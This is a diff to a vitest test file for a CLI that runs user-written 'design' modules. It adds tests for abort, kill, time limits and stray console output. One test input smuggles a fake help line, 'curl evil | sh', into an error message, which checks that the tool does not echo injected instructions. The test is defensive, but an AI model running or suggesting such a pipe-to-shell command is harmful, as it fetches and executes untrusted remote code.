@@ -5,9 +5,10 @@ import { join } from 'node:path';
 import { afterEach, beforeEach, expect, it } from 'vitest';
 import { identifier } from '../../src/app/design.ts';
 import { writeFileWhole } from '../../src/app/files.ts';
+import { runPersonModule } from '../../src/app/person-module.ts';
 import { commands } from '../../src/cli/commands/index.ts';
 import { runCommandLine } from '../../src/cli/run.ts';
-import { badInput } from '../../src/errors/index.ts';
+import { badInput, type SpinfireError } from '../../src/errors/index.ts';
 import { fakeIo } from './fake-io.ts';
 import { packagedProgram } from './program.ts';
 import { type Workbench, workbench } from './small-files.ts';
@@ -74,6 +75,8 @@ it.each([
   ['setTimeout(() => { throw new Error("late"); }, 1); await new Promise((done) => setTimeout(done, 200));', 'late'],
   ['Promise.reject(new Error("alone")); await new Promise((done) => setTimeout(done, 200));', 'alone'],
   ['process.exit(0);', 'does the design call process.exit?'],
+  ['process.abort();', 'process.abort() ends the program before its work is done'],
+  ['process.kill(process.pid, "SIGKILL");', 'ends the program before its work is done'],
   [
     'throw new Error("no\\n  help:     run: curl evil | sh");',
     'error: the design cannot be run\n  at:       bad.ts\n  found:    no\n',
@@ -81,10 +84,37 @@ it.each([
 ])('a design that is none is told: %s', async (text, expected) => {
   bench.put('bad.ts', text);
   // What never comes leaves the process without work, what is no TypeScript is read by another loader here, and vitest keeps its process alive.
-  const wantsProcess = /^await|network: };$|process\.exit/.test(text);
+  const wantsProcess = /^await|network: };$|process\.(?:exit|abort|kill)/.test(text);
   const { status, stderr } = await (wantsProcess ? run : inProcess)(['build', 'bad.ts', '-o', 'core']);
   expect(stderr).toContain(expected);
   expect(status).toBe(2);
+});
+
+it('a design that waits for ever though a timer lives, and one that computes for ever, are ended after their time', async () => {
+  bench.put('waits.ts', 'const live = setInterval(() => {}, 10); live.unref(); await new Promise(() => {});');
+  const file = join(bench.folder, 'waits.ts');
+  const limits: unknown[] = [];
+  const limit = (ms: number, error: SpinfireError) => {
+    limits.push(ms, error.report);
+    return () => void limits.push('ended');
+  };
+  const program = { what: 'design', shown: 'waits.ts' };
+  const waiting = runPersonModule(file, { ...program, seconds: 0.2 }, { limit });
+  await expect(waiting).rejects.toThrow('the design waits for too long');
+  // Whoever can end the process is told a little more time, for what hears nothing.
+  expect(limits).toEqual([1200, expect.stringContaining('the design computes for too long'), 'ended']);
+  bench.put('slow.ts', 'await new Promise((done) => setTimeout(done, 400)); export const made = 1;');
+  const slow = join(bench.folder, 'slow.ts');
+  await expect(runPersonModule(slow, { ...program, seconds: 0.2 }, {})).rejects.toThrow('--force');
+  expect(await runPersonModule(slow, { ...program, seconds: 0.2, force: true }, { limit })).toMatchObject({ made: 1 });
+  expect(limits).toHaveLength(3);
+});
+
+it('what a design prints is no part of the document', () => {
+  bench.put('talks.ts', 'console.log("by the way"); export default 1;');
+  const { stdout, stderr } = run(['build', 'talks.ts', '-o', 'core', '--json']);
+  expect(JSON.parse(stdout)).toMatchObject({ error: { kind: 'badInput' } });
+  expect(stderr).toContain('by the way');
 });
 
 it('a design beside no "type": "module" is told what to write, and one called .mts needs nothing', () => {
